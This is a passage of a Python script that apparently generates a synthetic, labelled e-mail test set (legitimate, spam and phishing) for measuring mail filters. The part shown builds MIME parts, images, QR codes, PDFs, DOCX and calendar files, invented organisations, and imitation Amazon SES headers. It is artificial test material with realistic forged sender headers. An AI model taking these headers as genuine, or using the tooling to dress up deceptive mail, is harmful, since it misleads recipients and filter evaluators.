#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
generate.py -- writes a synthetic, labelled measurement set of 2025-2026 e-mail.

  ham/0001.eml .. ham/0160.eml      legitimate mail that filters tend to get wrong
  spam/0001.eml .. spam/0090.eml    unsolicited bulk / scam mail
  phish/0001.eml .. phish/0050.eml  credential phishing, BEC, malicious attachments
  MANIFEST.tsv                      file <TAB> label <TAB> one-line scenario
  README.md                         provenance

Standard library only.  All randomness comes from fixed seeds; the clock is
never read.  Every spam/phishing domain is invented; every IPv4 address is
taken from the documentation ranges 192.0.2.0/24, 198.51.100.0/24 and
203.0.113.0/24.  Messages are written with CRLF line endings.
"""

import base64
import binascii
import datetime as dt
import os
import random
import re
import shutil
import string
import struct
import sys
import textwrap
import zipfile
import zlib
import io
from email.utils import format_datetime

HERE = os.path.dirname(os.path.abspath(__file__))
SEED = 20261128
R = random.Random(SEED)

ALNUM = string.ascii_letters + string.digits
LOWER = string.ascii_lowercase + string.digits
UTC = dt.timezone.utc


# ---------------------------------------------------------------- random bits
def rs(n, a=ALNUM):
    return ''.join(R.choice(a) for _ in range(n))


def rl(n):
    return rs(n, LOWER)


def rhex(n):
    return rs(n, '0123456789abcdef')


def rHEX(n):
    return rs(n, '0123456789ABCDEF')


def rdig(n):
    return str(R.randint(1, 9)) + rs(n - 1, string.digits)


def rbytes(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def rb64(nbytes):
    return base64.b64encode(rbytes(nbytes)).decode()


def rb64u(nbytes):
    return rb64(nbytes).replace('+', '-').replace('/', '_').rstrip('=')


def ruuid(upper=False):
    h = rhex(32)
    u = '%s-%s-4%s-%s%s-%s' % (h[:8], h[8:12], h[13:16], R.choice('89ab'), h[17:20], h[20:32])
    return u.upper() if upper else u


def pick(seq):
    return R.choice(seq)


def money(lo, hi):
    return '{:,.2f}'.format(R.uniform(lo, hi))


NETS = ('192.0.2.', '198.51.100.', '203.0.113.')


def rip(net=None):
    return (net or R.choice(NETS)) + str(R.randint(2, 253))


# ---------------------------------------------------------------------- dates
def tzone(h):
    return dt.timezone(dt.timedelta(hours=h))


def rdate(start=(2025, 1, 6), end=(2026, 11, 26), off=None, hours=(7, 21)):
    a = dt.date(*start).toordinal()
    b = dt.date(*end).toordinal()
    d = dt.date.fromordinal(R.randint(a, b))
    if off is None:
        off = R.choice([-8, -7, -7, -5, -4, -4, 0, 1, 2])
    return dt.datetime(d.year, d.month, d.day, R.randint(*hours), R.randint(0, 59),
                       R.randint(0, 59), tzinfo=tzone(off))


def rfc(d):
    return format_datetime(d)


def rfc_utc(d, ms=False):
    u = d.astimezone(UTC)
    s = format_datetime(u)
    if ms:
        s = s.replace(u.strftime('%H:%M:%S'), u.strftime('%H:%M:%S') + '.%03d' % R.randint(0, 999))
    return s + ' (UTC)'


def rfc_pacific(d):
    summer = 3 <= d.month <= 10
    p = d.astimezone(tzone(-7 if summer else -8))
    return format_datetime(p) + (' (PDT)' if summer else ' (PST)')


def later(d, lo=1, hi=4):
    return d + dt.timedelta(seconds=R.randint(lo, hi))


def human_date(d, fmt='%B %-d, %Y'):
    return d.strftime(fmt)


# ----------------------------------------------------------------- text utils
def wrap(text, width=74):
    out = []
    for line in text.split('\n'):
        if len(line) <= width + 2 or line.startswith('>') or line.startswith('    ') or line.startswith('\t'):
            out.append(line)
            continue
        m = re.match(r'\s*(?:[-*\u2022>]\s+|\d+[.)]\s+)?', line)
        ind = ' ' * len(m.group(0)) if m else ''
        out.extend(textwrap.wrap(line, width, subsequent_indent=ind,
                                 break_long_words=False, break_on_hyphens=False) or [''])
    return '\n'.join(out)


def esc(s):
    return (s.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')
             .replace('"', '&quot;'))


CODECS = {
    'utf-8': 'utf-8', 'us-ascii': 'ascii', 'iso-8859-1': 'latin-1',
    'windows-1252': 'cp1252', 'iso-2022-jp': 'iso2022_jp', 'iso-8859-15': 'iso8859_15',
    'shift_jis': 'shift_jis', 'koi8-r': 'koi8_r', 'gb2312': 'gb2312',
}


def codec(cs):
    return CODECS[cs.lower()]


def is_ascii(s):
    try:
        s.encode('ascii')
        return True
    except UnicodeEncodeError:
        return False


# ------------------------------------------------------ RFC 2047 / addresses
def _qenc(b):
    out = []
    for c in b:
        ch = chr(c)
        if ch == ' ':
            out.append('_')
        elif c < 128 and (ch.isalnum() or ch in '!*+-/'):
            out.append(ch)
        else:
            out.append('=%02X' % c)
    return ''.join(out)


def _ew_run(s, cs, mode, label):
    def enc(t):
        b = t.encode(codec(cs))
        p = base64.b64encode(b).decode() if mode == 'B' else _qenc(b)
        return '=?%s?%s?%s?=' % (label, mode, p)
    words, chunk = [], ''
    for ch in s:
        if chunk and len(enc(chunk + ch)) > 72:
            words.append(enc(chunk))
            chunk = ch
        else:
            chunk += ch
    if chunk:
        words.append(enc(chunk))
    return '\n '.join(words)


def ew(s, cs='utf-8', mode=None, label=None, force=False, partial=False):
    """Encode a header value as RFC 2047 encoded-words when needed."""
    if is_ascii(s) and not force:
        return s
    try:
        s.encode(codec(cs))
    except UnicodeEncodeError:
        cs, label, mode = 'utf-8', None, mode
    if mode is None:
        mode = 'Q' if cs.lower() in ('iso-8859-1', 'windows-1252', 'iso-8859-15') else 'B'
    label = label or cs
    if not partial:
        return _ew_run(s, cs, mode, label)
    toks = s.split(' ')
    out, run = [], []
    for t in toks:
        if is_ascii(t):
            if run:
                out.append(_ew_run(' '.join(run), cs, mode, label))
                run = []
            out.append(t)
        else:
            run.append(t)
    if run:
        out.append(_ew_run(' '.join(run), cs, mode, label))
    return ' '.join(out)


SPECIALS = '()<>[]:;@\\,."'


def addr(name, email, cs='utf-8', mode=None):
    if not name:
        return email
    if not is_ascii(name):
        return '%s <%s>' % (ew(name, cs, mode), email)
    if any(c in SPECIALS for c in name):
        name = '"%s"' % name.replace('\\', '\\\\').replace('"', '\\"')
    return '%s <%s>' % (name, email)


def addr_list(lst, cs='utf-8'):
    return ',\n '.join(addr(n, e, cs) for n, e in lst)


# ------------------------------------------------------------------ MIME core
class Part:
    def __init__(self, headers, body):
        self.headers = list(headers)
        self.body = body if isinstance(body, bytes) else body.encode('ascii')

    def render(self):
        return ('\n'.join(self.headers) + '\n\n').encode('ascii') + self.body


def b64lines(data):
    return base64.encodebytes(data)


def ct_line(ctype, params, style='quoted'):
    """params: list of (k, v)."""
    if not params:
        return 'Content-Type: %s' % ctype
    if style == 'apple':
        return 'Content-Type: %s;\n\t' % ctype + ';\n\t'.join('%s=%s' % (k, v) for k, v in params)
    if style == 'quoted':
        return 'Content-Type: %s; ' % ctype + '; '.join('%s="%s"' % (k, v) for k, v in params)
    return 'Content-Type: %s; ' % ctype + '; '.join('%s=%s' % (k, v) for k, v in params)


def text_part(text, sub='plain', cs='utf-8', cte=None, style='quoted', flowed=False,
              extra=None, cs_label=None):
    if sub == 'plain' and cte in ('7bit', '8bit', None) and not flowed:
        text = wrap(text, 76)
    data = text.encode(codec(cs))
    if cte is None:
        cte = '7bit' if all(b < 128 for b in data) else 'quoted-printable'
    if cte in ('7bit', '8bit') and any(len(l) > 900 for l in data.split(b'\n')):
        cte = 'quoted-printable'
    if cte == 'quoted-printable':
        body = binascii.b2a_qp(data, istext=True)
    elif cte == 'base64':
        body = b64lines(data)
    else:
        body = data
    if not body.endswith(b'\n'):
        body += b'\n'
    params = [('charset', cs_label or cs)]
    if flowed:
        params.append(('format', 'flowed'))
    hdrs = [ct_line('text/' + sub, params, style), 'Content-Transfer-Encoding: %s' % cte]
    return Part(hdrs + (extra or []), body)


def rfc2231(fn):
    from urllib.parse import quote
    return "utf-8''" + quote(fn.encode('utf-8'), safe='')


def attach(data, ctype, filename, disp='attachment', cid=None, cte='base64', style='quoted',
           extra=None, size=False):
    if is_ascii(filename):
        ct = 'Content-Type: %s; name="%s"' % (ctype, filename)
        cd = 'Content-Disposition: %s; filename="%s"' % (disp, filename)
    else:
        ct = 'Content-Type: %s;\n name="%s"' % (ctype, ew(filename))
        cd = 'Content-Disposition: %s;\n filename*=%s' % (disp, rfc2231(filename))
    if size:
        cd += ';\n size=%d' % len(data)
    hdrs = [ct, cd]
    if cid:
        hdrs.append('Content-ID: <%s>' % cid)
    if cte == 'base64':
        body = b64lines(data)
    elif cte == 'quoted-printable':
        body = binascii.b2a_qp(data, istext=True)
    else:
        body = data
    hdrs.append('Content-Transfer-Encoding: %s' % cte)
    if not body.endswith(b'\n'):
        body += b'\n'
    return Part(hdrs + (extra or []), body)


def boundary(style):
    if style == 'gmail':
        return '000000000000' + rhex(16)
    if style == 'apple':
        return 'Apple-Mail=_' + ruuid(True)
    if style == 'outlook':
        return '_000_%s%s%s_' % (pick(['SJ0PR11MB', 'DM6PR04MB', 'PH0PR12MB', 'AS8PR08MB']),
                                 rdig(4), rHEX(20) + 'namprd11prodoutlookcom')
    if style == 'java':
        return '----=_Part_%s_%s.%s' % (rdig(7), rdig(9), rdig(13))
    if style == 'python':
        return '===============%s==' % rdig(19)
    if style == 'php':
        return 'b1=_' + rs(43)
    if style == 'tbird':
        return '------------' + rs(24)
    if style == 'mc':
        return '_----------=_MCPart_' + rdig(10)
    if style == 'hex':
        return rhex(64)
    if style == 'nextpart':
        return '----=_NextPart_000_%04X_%s.%s' % (R.randint(0, 0xff), rHEX(8), rHEX(8))
    if style == 'roundcube':
        return '=_' + rhex(32)
    if style == 'zoho':
        return '----=_Part_%s_%s.%s' % (rdig(6), rdig(9), rdig(13))
    if style == 'samsung':
        return '--_com.samsung.android.email_%s' % rdig(16)
    return '--' + rs(30)


def multipart(sub, parts, bstyle='random', preamble=None, params=None, style='quoted'):
    b = boundary(bstyle)
    body = b''
    if preamble:
        body += preamble.encode('ascii') + b'\n'
    for p in parts:
        body += b'--' + b.encode('ascii') + b'\n' + p.render()
        if not body.endswith(b'\n'):
            body += b'\n'
    body += b'--' + b.encode('ascii') + b'--\n'
    ps = list(params or [])
    if style == 'apple':
        line = 'Content-Type: multipart/%s;\n\tboundary="%s"' % (sub, b)
        for k, v in ps:
            line += ';\n\t%s=%s' % (k, v)
    else:
        extra = ''.join(';\n\t%s="%s"' % (k, v) for k, v in ps)
        line = 'Content-Type: multipart/%s;\n\tboundary="%s"%s' % (sub, b, extra)
    return Part([line], body)


# ---------------------------------------------------------- binary generators
def _png_chunk(t, d):
    return struct.pack('>I', len(d)) + t + d + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)


def png_gray(rows):
    h, w = len(rows), len(rows[0])
    raw = b''.join(b'\x00' + bytes(r) for r in rows)
    return (b'\x89PNG\r\n\x1a\n' + _png_chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 0, 0, 0, 0))
            + _png_chunk(b'IDAT', zlib.compress(raw, 9)) + _png_chunk(b'IEND', b''))


def png_rgb(w, h, fn):
    raw = bytearray()
    for y in range(h):
        raw.append(0)
        for x in range(w):
            raw.extend(fn(x, y))
    return (b'\x89PNG\r\n\x1a\n' + _png_chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, 8, 2, 0, 0, 0))
            + _png_chunk(b'IDAT', zlib.compress(bytes(raw), 9)) + _png_chunk(b'IEND', b''))


def hex2rgb(h):
    h = h.lstrip('#')
    return tuple(int(h[i:i + 2], 16) for i in (0, 2, 4))


def banner_png(color, w=160, h=48):
    r, g, b = hex2rgb(color)
    seed = R.randint(0, 10 ** 6)

    def fn(x, y):
        k = 0.65 + 0.35 * (x / w)
        n = ((x * 7 + y * 13 + seed) % 17) - 8
        return (max(0, min(255, int(r * k) + n)), max(0, min(255, int(g * k) + n)),
                max(0, min(255, int(b * k) + n)))
    return png_rgb(w, h, fn)


def photo_png(w=96, h=72):
    a = [R.randint(40, 220) for _ in range(9)]

    def fn(x, y):
        return ((a[0] + x * a[1] // 40 + y) % 256, (a[2] + y * a[3] // 30) % 256,
                (a[4] + (x + y) * a[5] // 60) % 256)
    return png_rgb(w, h, fn)


def screenshot_png(w=180, h=110):
    def fn(x, y):
        if y < 14:
            return (236, 236, 238)
        if x < 36:
            return (246, 247, 249)
        if (y - 20) % 12 < 4 and 44 < x < 44 + ((y * 37) % 120):
            return (90, 96, 110)
        return (255, 255, 255)
    return png_rgb(w, h, fn)


# ------------------------------------------------------------ QR code (byte)
def _gf_mul(x, y):
    z = 0
    for i in range(7, -1, -1):
        z = (z << 1) ^ ((z >> 7) * 0x11D)
        z ^= ((y >> i) & 1) * x
    return z & 0xFF


def _rs_divisor(deg):
    res = [0] * (deg - 1) + [1]
    root = 1
    for _ in range(deg):
        for j in range(len(res)):
            res[j] = _gf_mul(res[j], root)
            if j + 1 < len(res):
                res[j] ^= res[j + 1]
        root = _gf_mul(root, 0x02)
    return res


def _rs_remainder(data, div):
    res = [0] * len(div)
    for b in data:
        f = b ^ res.pop(0)
        res.append(0)
        for i, c in enumerate(div):
            res[i] ^= _gf_mul(c, f)
    return res


_QR_ECC_L = [None, 7, 10, 15, 20, 26, 18]
_QR_BLK_L = [None, 1, 1, 1, 1, 1, 2]


def _qr_raw_modules(ver):
    r = (16 * ver + 128) * ver + 64
    if ver >= 2:
        na = ver // 7 + 2
        r -= (25 * na - 10) * na - 55
    return r


def qr_matrix(text):
    data = text.encode('utf-8')
    for ver in range(1, 7):
        cap = _qr_raw_modules(ver) // 8 - _QR_ECC_L[ver] * _QR_BLK_L[ver]
        if 4 + 8 + len(data) * 8 <= cap * 8:
            break
    else:
        raise ValueError('QR payload too long')
    size = ver * 4 + 17
    bits = []

    def put(v, n):
        for i in range(n - 1, -1, -1):
            bits.append((v >> i) & 1)
    put(4, 4)
    put(len(data), 8)
    for b in data:
        put(b, 8)
    capbits = cap * 8
    put(0, min(4, capbits - len(bits)))
    put(0, (8 - len(bits) % 8) % 8)
    cw = [int(''.join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8)]
    pad = 0xEC
    while len(cw) < cap:
        cw.append(pad)
        pad ^= 0xEC ^ 0x11
    # blocks + ecc
    nb, ecl = _QR_BLK_L[ver], _QR_ECC_L[ver]
    raw = _qr_raw_modules(ver) // 8
    nshort = nb - raw % nb
    shortlen = raw // nb
    div = _rs_divisor(ecl)
    blocks, k = [], 0
    for i in range(nb):
        dl = shortlen - ecl + (0 if i < nshort else 1)
        dat = cw[k:k + dl]
        k += dl
        ecc = _rs_remainder(dat, div)
        if i < nshort:
            dat = dat + [0]
        blocks.append(dat + ecc)
    final = []
    for i in range(len(blocks[0])):
        for j, blk in enumerate(blocks):
            if i != shortlen - ecl or j >= nshort:
                final.append(blk[i])
    M = [[False] * size for _ in range(size)]
    F = [[False] * size for _ in range(size)]

    def setf(x, y, v):
        M[y][x] = v
        F[y][x] = True
    for i in range(size):
        setf(6, i, i % 2 == 0)
        setf(i, 6, i % 2 == 0)
    for cx, cy in ((3, 3), (size - 4, 3), (3, size - 4)):
        for dy in range(-4, 5):
            for dx in range(-4, 5):
                x, y = cx + dx, cy + dy
                if 0 <= x < size and 0 <= y < size:
                    setf(x, y, max(abs(dx), abs(dy)) not in (2, 4))
    if ver >= 2:
        na = ver // 7 + 2
        step = (ver * 4 + na * 2 + 1) // (na * 2 - 2) * 2
        pos = [6] + [0] * (na - 1)
        p = ver * 4 + 10
        for i in range(na - 1, 0, -1):
            pos[i] = p
            p -= step
        for i in range(na):
            for j in range(na):
                if (i == 0 and j == 0) or (i == 0 and j == na - 1) or (i == na - 1 and j == 0):
                    continue
                for dy in range(-2, 3):
                    for dx in range(-2, 3):
                        setf(pos[i] + dx, pos[j] + dy, max(abs(dx), abs(dy)) != 1)
    mask = 0

    def draw_format():
        d = (1 << 3) | mask  # ECC level L
        rem = d
        for _ in range(10):
            rem = (rem << 1) ^ ((rem >> 9) * 0x537)
        b = ((d << 10) | rem) ^ 0x5412
        g = lambda i: ((b >> i) & 1) != 0
        for i in range(6):
            setf(8, i, g(i))
        setf(8, 7, g(6))
        setf(8, 8, g(7))
        setf(7, 8, g(8))
        for i in range(9, 15):
            setf(14 - i, 8, g(i))
        for i in range(8):
            setf(size - 1 - i, 8, g(i))
        for i in range(8, 15):
            setf(8, size - 15 + i, g(i))
        setf(8, size - 8, True)
    draw_format()
    i = 0
    right = size - 1
    while right >= 1:
        if right == 6:
            right = 5
        for vert in range(size):
            for j in range(2):
                x = right - j
                up = ((right + 1) & 2) == 0
                y = size - 1 - vert if up else vert
                if not F[y][x] and i < len(final) * 8:
                    M[y][x] = ((final[i >> 3] >> (7 - (i & 7))) & 1) != 0
                    i += 1
        right -= 2
    for y in range(size):
        for x in range(size):
            if not F[y][x] and (x + y) % 2 == 0:
                M[y][x] = not M[y][x]
    draw_format()
    return M


def qr_png(text, scale=5, border=4):
    M = qr_matrix(text)
    n = len(M)
    rows = []
    for y in range(-border, n + border):
        row = []
        for x in range(-border, n + border):
            dark = 0 <= x < n and 0 <= y < n and M[y][x]
            row.extend([0 if dark else 255] * scale)
        for _ in range(scale):
            rows.append(row)
    return png_gray(rows)


# ----------------------------------------------------------------------- PDF
def _pdf_str(s):
    s = s.encode('latin-1', 'replace').decode('latin-1')
    return '(' + s.replace('\\', '\\\\').replace('(', '\\(').replace(')', '\\)') + ')'


def make_pdf(lines, title='', author='', link=None, link_label=None, producer=None, d=None,
             compress=True):
    d = d or dt.datetime(2025, 6, 1, tzinfo=UTC)
    ops = ['BT', '/F1 11 Tf', '14 TL', '56 790 Td']
    first = True
    for ln in lines:
        if first and title:
            ops.append('/F2 15 Tf %s Tj T* T* /F1 11 Tf' % _pdf_str(ln))
        else:
            ops.append('%s Tj T*' % _pdf_str(ln))
        first = False
    ops.append('ET')
    rect = None
    if link:
        y = 790 - 14 * (len(lines) + 3)
        rect = (56, y - 8, 300, y + 22)
        ops.append('0.13 0.36 0.82 rg 56 %d 244 30 re f' % (y - 8))
        ops.append('BT 1 1 1 rg /F2 12 Tf 72 %d Td %s Tj ET' % (y + 3, _pdf_str(link_label or 'Open document')))
    stream = '\n'.join(ops).encode('latin-1')
    if compress:
        sdata = zlib.compress(stream)
        sdict = '<< /Length %d /Filter /FlateDecode >>' % len(sdata)
    else:
        sdata = stream
        sdict = '<< /Length %d >>' % len(sdata)
    objs = []
    objs.append(b'<< /Type /Catalog /Pages 2 0 R >>')
    objs.append(b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>')
    annots = ' /Annots [7 0 R]' if link else ''
    objs.append(('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 842] /Resources << /Font << /F1 4 0 R /F2 5 0 R >> >> /Contents 6 0 R%s >>' % annots).encode())
    objs.append(b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>')
    objs.append(b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>')
    objs.append(sdict.encode() + b'\nstream\n' + sdata + b'\nendstream')
    if link:
        objs.append(('<< /Type /Annot /Subtype /Link /Rect [%d %d %d %d] /Border [0 0 0] /A << /S /URI /URI %s >> >>'
                     % (rect[0], rect[1], rect[2], rect[3], _pdf_str(link))).encode('latin-1'))
    info = '<< /Title %s /Author %s /Producer %s /CreationDate (D:%s) >>' % (
        _pdf_str(title or 'Document'), _pdf_str(author or ''),
        _pdf_str(producer or 'Microsoft Word for Microsoft 365'),
        d.strftime('%Y%m%d%H%M%S') + "+00'00'")
    objs.append(info.encode('latin-1'))
    out = bytearray(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b'%d 0 obj\n' % i + o + b'\nendobj\n'
    x = len(out)
    out += b'xref\n0 %d\n0000000000 65535 f \n' % (len(objs) + 1)
    for o in offs:
        out += b'%010d 00000 n \n' % o
    out += (b'trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R /ID [<%s> <%s>] >>\nstartxref\n%d\n%%%%EOF\n'
            % (len(objs) + 1, len(objs), rhex(32).encode(), rhex(32).encode(), x))
    return bytes(out)


# ---------------------------------------------------------------- ZIP / DOCX
def make_zip(files, when=(2025, 6, 1, 9, 0, 0)):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=when)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return buf.getvalue()


def make_docx(paragraphs, title='Document', author='', when=(2025, 6, 1, 9, 0, 0)):
    ns = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
    body = ''.join('<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % esc(p) for p in paragraphs)
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="%s"><w:body>%s<w:sectPr><w:pgSz w:w="12240" w:h="15840"/></w:sectPr></w:body></w:document>' % (ns, body))
    ctypes = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
              '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
              '<Default Extension="xml" ContentType="application/xml"/>'
              '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
              '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
              '</Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
            '</Relationships>')
    core = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>%s</dc:title><dc:creator>%s</dc:creator></cp:coreProperties>'
            % (esc(title), esc(author)))
    return make_zip([('[Content_Types].xml', ctypes), ('_rels/.rels', rels),
                     ('word/document.xml', doc), ('docProps/core.xml', core)], when)


# ----------------------------------------------------------------------- ICS
def ics_fold(line):
    b = line.encode('utf-8')
    if len(b) <= 74:
        return line
    out, cur = [], ''
    for ch in line:
        if len((cur + ch).encode('utf-8')) > 73:
            out.append(cur)
            cur = ' ' + ch
        else:
            cur += ch
    out.append(cur)
    return '\n'.join(out)


def make_ics(method, uid, start, end, summary, organizer, attendees, location='', description='',
             prodid='-//Google Inc//Google Calendar 70.9054//EN', tzid=None, seq=0, stamp=None,
             status='CONFIRMED', rrule=None):
    def t(d):
        return d.astimezone(UTC).strftime('%Y%m%dT%H%M%SZ')
    L = ['BEGIN:VCALENDAR', 'PRODID:' + prodid, 'VERSION:2.0', 'CALSCALE:GREGORIAN', 'METHOD:' + method,
         'BEGIN:VEVENT', 'DTSTART:' + t(start), 'DTEND:' + t(end), 'DTSTAMP:' + t(stamp or start)]
    if rrule:
        L.append('RRULE:' + rrule)
    L.append('ORGANIZER;CN=%s:mailto:%s' % organizer)
    L.append('UID:' + uid)
    for n, e, role in attendees:
        L.append('ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=%s;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=%s;X-NUM-GUESTS=0:mailto:%s' % (role, n, e))
    desc = description.replace('\\', '\\\\').replace(';', '\\;').replace(',', '\\,').replace('\n', '\\n')
    L += ['CREATED:' + t(stamp or start), 'DESCRIPTION:' + desc, 'LAST-MODIFIED:' + t(stamp or start),
          'LOCATION:' + location.replace(',', '\\,'), 'SEQUENCE:%d' % seq, 'STATUS:' + status,
          'SUMMARY:' + summary.replace(',', '\\,'), 'TRANSP:OPAQUE',
          'BEGIN:VALARM', 'ACTION:DISPLAY', 'DESCRIPTION:This is an event reminder',
          'TRIGGER:-P0DT0H10M0S', 'END:VALARM', 'END:VEVENT', 'END:VCALENDAR']
    return '\n'.join(ics_fold(l) for l in L) + '\n'


# ============================================================================
# Recipients (invented organisations under .example) and their inbound MX
# ============================================================================
ORGS = {
    'northfield-studio.example': ('google', None),
    'kestrel-labs.example': ('google', None),
    'harborline-legal.example': ('m365', 'harborlinelegal'),
    'oakmere-consulting.example': ('m365', 'oakmereconsult'),
    'tidewater-outfitters.example': ('m365', 'tidewaterout'),
    'quillandpine.example': ('postfix', 'mail.quillandpine.example'),
    'bluefen-analytics.example': ('postfix', 'mx.bluefen-analytics.example'),
    'marlowe-home.example': ('fastmail', None),
    'lindenhof-design.example': ('postfix', 'mx1.lindenhof-design.example'),
    'atelier-verdier.example': ('google', None),
    'casa-almendro.example': ('m365', 'casaalmendro'),
    'sakura-koubou.example': ('google', None),
    'ridgeview-hoa.example': ('fastmail', None),
}

P = {
    'maya': ('Maya Okafor', 'maya@northfield-studio.example'),
    'devin': ('Devin Hartley', 'devin.hartley@northfield-studio.example'),
    'sam': ('Sam Whitcombe', 'sam@northfield-studio.example'),
    'ana': ('Ana Ribeiro', 'ana.ribeiro@kestrel-labs.example'),
    'tom': ('Tomasz Zielinski', 'tomasz@kestrel-labs.example'),
    'leah': ('Leah Brennan', 'lbrennan@harborline-legal.example'),
    'marcus': ('Marcus Oyelaran', 'moyelaran@harborline-legal.example'),
    'ap_harbor': ('Accounts Payable', 'ap@harborline-legal.example'),
    'grace': ('Grace Lindqvist', 'grace.lindqvist@oakmere-consulting.example'),
    'raj': ('Raj Menon', 'raj.menon@oakmere-consulting.example'),
    'finance_oak': ('Finance', 'finance@oakmere-consulting.example'),
    'hollis': ('Hollis Grant', 'hollis@tidewater-outfitters.example'),
    'bea': ('Beatriz Calloway', 'beatriz@tidewater-outfitters.example'),
    'owen': ('Owen Pryce', 'owen@quillandpine.example'),
    'iris': ('Iris Achterberg', 'iris@quillandpine.example'),
    'nadia': ('Nadia Farouk', 'nadia@bluefen-analytics.example'),
    'ops_bluefen': ('', 'ops@bluefen-analytics.example'),
    'jonah': ('Jonah Marlowe', 'jonah@marlowe-home.example'),
    'priya': ('Priya Marlowe', 'priya@marlowe-home.example'),
    'ellie': ('Ellie Marlowe', 'ellie@marlowe-home.example'),
    'katrin': ('Katrin Vogelsang', 'k.vogelsang@lindenhof-design.example'),
    'felix': ('Felix Brandt', 'felix.brandt@lindenhof-design.example'),
    'camille': ('Camille Verdier', 'camille@atelier-verdier.example'),
    'lucas': ('Lucas Moreau', 'lucas.moreau@atelier-verdier.example'),
    'lucia': ('Lucía Almendro', 'lucia@casa-almendro.example'),
    'javier': ('Javier Soto', 'javier.soto@casa-almendro.example'),
    'haruka': ('Haruka Sato', 'haruka@sakura-koubou.example'),
    'kenji': ('Kenji Mori', 'kenji.mori@sakura-koubou.example'),
    'dana': ('Dana Whitfield', 'dana@ridgeview-hoa.example'),
    'info_north': ('', 'hello@northfield-studio.example'),
}

CONSUMERS = ['jonah', 'priya', 'ellie', 'maya', 'sam', 'owen', 'nadia', 'ana', 'dana', 'devin', 'iris', 'hollis']
WORKERS = ['maya', 'devin', 'sam', 'ana', 'tom', 'leah', 'marcus', 'grace', 'raj', 'hollis', 'bea', 'owen',
           'iris', 'nadia']


def who(k=None, pool=None):
    if k is None:
        k = pick(pool or CONSUMERS)
    return P[k]


def first(k):
    return P[k][0].split()[0]


PUBLIC_SUFFIX2 = ('co.uk', 'com.au', 'co.jp', 'com.br', 'co.nz', 'org.uk', 'ac.uk', 'com.mx', 'co.za', 'com.es', 'ne.jp', 'or.jp')


def org(dom):
    dom = dom.lower().strip('.')
    parts = dom.split('.')
    if len(parts) >= 3 and '.'.join(parts[-2:]) in PUBLIC_SUFFIX2:
        return '.'.join(parts[-3:])
    return '.'.join(parts[-2:])


CONSUMER_DMARC = {'gmail.com': 'none', 'outlook.com': 'none', 'hotmail.com': 'none', 'icloud.com': 'quarantine',
                  'me.com': 'quarantine', 'yahoo.com': 'reject', 'proton.me': 'quarantine', 'fastmail.com': 'none',
                  'gmx.de': 'none', 'orange.fr': 'none', 'web.de': 'none'}


# ============================================================================
# Sender infrastructures
# ============================================================================
def _mk(**kw):
    base = dict(received=[], extra=[], ua=[], dkim=[], bstyle='random', hstyle='esp', ctstyle='quoted',
                unsub=None, mimever='1.0', tls=True)
    base.update(kw)
    return base


def _local(a):
    return a.split('@')[0]


def _unsub_generic(c, dom):
    return '<https://%s/unsubscribe?u=%s>, <mailto:unsubscribe-%s@%s>' % (
        pick(['unsubscribe.', 'email.', 'links.', 'u.']) + dom, rb64u(30), rhex(20), pick(['unsub.', 'bounce.', '']) + dom)


def s_ses(c):
    d, s = c['d'], c['s']
    dom = c['dkim_dom']
    region = s.get('region') or pick(['us-east-1', 'us-east-1', 'us-east-1', 'us-west-2', 'eu-west-1'])
    ts = format(int(d.timestamp() * 1000), '012x')
    pre = {'us-east-1': '0100', 'us-west-2': '0101', 'eu-west-1': '0102'}[region]
    sid = '%s%s-%s-%s-%s-%s-%s-000000' % (pre, ts, rhex(8), rhex(4), rhex(4), rhex(4), rhex(12))
    host = 'email.amazonses.com' if region == 'us-east-1' else region + '.amazonses.com'
    sesd = 'amazonses.com' if region == 'us-east-1' else region + '.amazonses.com'
    mfd = s.get('mailfrom_dom') or pick(['mail.' + dom, 'bounce.' + dom, 'send.' + dom] + ([sesd, sesd] if s['label'] == 'ham' else []))
    ip = rip()
    helo = 'a%d-%s.smtp-out.%samazonses.com' % (R.randint(8, 48), ip.split('.')[-1],
                                              '' if region == 'us-east-1' else region + '.')
    extra = [('Feedback-ID', '::1.%s.%s:AmazonSES' % (region, rb64(32))),
